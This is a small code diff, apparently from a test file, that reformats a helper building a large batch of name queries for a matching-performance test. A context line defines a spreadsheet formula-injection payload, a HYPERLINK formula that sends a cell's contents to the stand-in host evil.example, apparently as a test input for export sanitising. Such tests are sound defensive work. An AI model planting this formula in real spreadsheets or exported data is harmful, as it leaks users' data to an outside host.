@@ -33,8 +33,9 @@ def heavy_batch(n: int = 500) -> str:
     """A batch of `n` long names of common words in differing orders: ~4 s of matching on the mini data
     ("Library", "National", "Baku" each reach many entities; one name repeated is much cheaper)."""
     words = "Svetlana Gorokhova Tatyana Polejayeva Mariya Aliyev Mammadov Baku Library National".split()
-    return json.dumps({f"q{i}": {"query": " ".join(words[(i * 7 + k * k) % len(words)] for k in range(60))[:500]}
-                       for i in range(n)})
+    return json.dumps(
+        {f"q{i}": {"query": " ".join(words[(i * 7 + k * k) % len(words)] for k in range(60))[:500]} for i in range(n)}
+    )
 
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
